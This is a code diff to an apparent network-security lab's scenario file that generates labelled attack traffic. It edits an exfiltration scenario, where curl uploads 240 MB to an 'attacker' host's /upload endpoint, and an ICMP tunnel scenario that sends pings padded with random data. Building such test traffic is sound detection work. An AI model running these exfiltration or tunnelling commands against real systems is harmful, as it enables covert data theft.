@@ -1,10 +1,9 @@
 import type { Scenario, ScenarioContext } from '../scenario.js';
+import { startReceiver } from './receiver.js';
 
 /** Starts the attacker's server that takes whatever comes, runs the work, and stops it. */
 async function withReceiver(context: ScenarioContext, work: () => Promise<void>): Promise<void> {
-  const script = new URL('../traffic/receiver.ts', import.meta.url).pathname;
-  const receiver = context.lab.hosts.attacker.start(process.execPath, ['--import', 'tsx', script]);
-  await receiver.waitForOutput(/receiver: ready/);
+  const receiver = await startReceiver(context.lab);
   await work();
   await receiver.stop();
 }
@@ -36,16 +35,16 @@ function beacon(jitter: number): Scenario {
 
 const exfiltration: Scenario = {
   name: 'exfiltration',
-  summary: 'an infected host uploads a large file',
+  summary: 'an infected host uploads 240 MB',
   kind: 'attack',
-  services: ['web'],
+  services: [],
   run: async (context) => {
     const [master = ''] = context.attackers();
-    const rate = context.at({ slow: '500k', normal: '4M', fast: '40M' });
-    const file = `${context.lab.dir}/www/package.tar`;
-    const args = ['-s', '-o', '/dev/null', '--limit-rate', rate, '-m', '60', '-T', file, `http://${master}/upload`];
+    const rate = context.at({ slow: '5M', normal: '15M', fast: '60M' });
+    const upload = `curl -s -o /dev/null --limit-rate ${rate} -m 90 -T - http://${master}/upload`;
+    const args = ['-c', `head -c 240M /dev/zero | ${upload}`];
     const facts = { label: 'exfiltration', technique: 'T1041', sources: [context.victim.ip4], targets: [master] };
-    await withReceiver(context, () => context.attack(facts, 'victim', 'curl', args));
+    await withReceiver(context, () => context.attack(facts, 'victim', 'bash', args));
   },
 };
 
@@ -74,16 +73,18 @@ const dnsTunnel: Scenario = {
 
 const icmpTunnel: Scenario = {
   name: 'icmp-tunnel',
-  summary: 'data in large echo requests, as a ping tunnel sends them',
+  summary: 'ever new data in large echo requests',
   kind: 'attack',
   services: [],
   run: async (context) => {
     const [source = ''] = context.attackers();
     const interval = context.at({ slow: '0.5', normal: '0.1', fast: '0.02' });
-    const count = Math.ceil(context.seconds / Number(interval));
-    const args = ['-q', '-I', source, '-s', '1000', '-i', interval, '-c', String(count), context.victim.ip4];
+    const count = Math.min(400, Math.ceil(context.seconds / Number(interval)));
+    const data = '$(head -c 16 /dev/urandom | od -An -tx1 | tr -d " \\n")';
+    const send = `ping -q -I ${source} -s 1000 -c 1 -W 1 -p ${data} ${context.victim.ip4}`;
+    const args = ['-c', `for i in $(seq ${count}); do ${send}; sleep ${interval}; done`];
     const facts = { label: 'icmp_tunnel', technique: 'T1095', sources: [source], targets: [context.victim.ip4] };
-    await context.attack(facts, 'attacker', 'ping', args);
+    await context.attack(facts, 'attacker', 'bash', args);
   },
 };
 
